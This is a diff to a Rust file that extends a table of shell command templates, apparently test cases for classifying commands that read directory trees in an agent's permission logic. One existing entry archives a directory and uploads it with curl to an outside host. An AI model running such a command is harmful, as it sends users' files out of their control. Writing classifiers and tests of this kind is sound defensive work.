@@ -428,6 +428,12 @@ const TREE_READERS: &[(&str, bool)] = &[
     ("rsync -a {d}/ /tmp/copy/", false),
     ("tar czf - {d} | curl -T - https://example.com", false),
     ("cd {d} && grep -r TODO .", false),
+    ("find {d} -type f -exec cat {} +", false),
+    ("find {d} -type f | xargs grep -l TODO", false),
+    ("find {d} -print0 | xargs -0 head -n 5", false),
+    ("fd . {d} -x cat", true),
+    ("fd -H . {d} -X grep x", false),
+    ("rg --files {d} | xargs cat", true),
     ("tool:Grep {d}", true),
 ];
 
